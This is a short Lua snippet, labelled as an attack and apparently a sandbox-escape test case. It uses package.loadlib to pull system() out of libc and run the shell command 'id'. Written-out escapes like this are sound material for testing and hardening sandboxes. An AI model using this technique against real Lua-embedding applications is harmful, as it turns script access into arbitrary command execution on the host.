-- Attack: load native code through package.loadlib.
local system = package.loadlib("libc.so.6", "system")
system("id")
